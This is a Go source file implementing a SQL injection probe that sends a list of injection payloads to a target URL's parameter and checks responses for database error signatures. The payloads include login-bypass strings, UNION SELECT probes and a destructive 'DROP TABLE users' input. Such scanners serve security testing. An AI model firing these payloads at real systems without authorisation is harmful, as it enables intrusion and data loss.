// Package database backs the db_* natives in internal/stdlib/db.go:
// db_manager.go owns pooled connections for db_open/db_query/db_exec,
// and DatabaseModule below drives db_test_sql_injection by actually
// firing each payload at the target URL and grep-ing the response for
// known database error signatures.
package database

import (
	"fmt"
	"io/ioutil"
	"net/http"
	"net/url"
	"strings"
	"time"
)

// DatabaseModule runs the SQL injection probe.
type DatabaseModule struct {
	Client *http.Client
}

// SQLInjectionTest is the outcome of probing one URL parameter with
// the payload set below.
type SQLInjectionTest struct {
	URL        string
	Parameter  string
	Method     string
	Payloads   []string
	Vulnerable bool
	Evidence   []string
}

func NewDatabaseModule() *DatabaseModule {
	return &DatabaseModule{
		Client: &http.Client{Timeout: 10 * time.Second},
	}
}

// sqlErrorSignatures are substrings that tend to appear verbatim in
// error pages when a backend leaks a raw driver error.
var sqlErrorSignatures = []string{
	"SQL syntax", "mysql_fetch", "ORA-01756", "unclosed quotation mark",
	"SQLite3::", "PostgreSQL query failed", "pg_query()", "Warning: mysql_",
	"valid MySQL result", "quoted string not properly terminated",
	"Microsoft OLE DB Provider for SQL Server", "SQLSTATE",
}

// TestSQLInjection sends each payload as targetURL's parameter value
// and flags the parameter as vulnerable the first time a response body
// contains a known SQL error signature.
func (db *DatabaseModule) TestSQLInjection(targetURL, parameter string) (*SQLInjectionTest, error) {
	test := &SQLInjectionTest{
		URL:       targetURL,
		Parameter: parameter,
		Method:    "GET",
		Payloads:  sqlInjectionPayloads(),
		Evidence:  make([]string, 0),
	}

	base, err := url.Parse(targetURL)
	if err != nil {
		return nil, fmt.Errorf("invalid target URL: %w", err)
	}

	for _, payload := range test.Payloads {
		q := base.Query()
		q.Set(parameter, payload)
		probe := *base
		probe.RawQuery = q.Encode()

		resp, err := db.Client.Get(probe.String())
		if err != nil {
			continue
		}
		body, err := ioutil.ReadAll(resp.Body)
		resp.Body.Close()
		if err != nil {
			continue
		}

		for _, sig := range sqlErrorSignatures {
			if strings.Contains(string(body), sig) {
				test.Vulnerable = true
				test.Evidence = append(test.Evidence, fmt.Sprintf("payload %q triggered signature %q", payload, sig))
				break
			}
		}
	}

	return test, nil
}

func sqlInjectionPayloads() []string {
	return []string{
		"'",
		"\"",
		"' OR '1'='1",
		"' OR '1'='1' --",
		"' OR '1'='1' /*",
		"' UNION SELECT NULL--",
		"' UNION SELECT NULL,NULL--",
		"'; DROP TABLE users--",
		"1' AND '1'='2",
		"admin'--",
		"' OR 1=1#",
		"') OR ('1'='1--",
	}
}
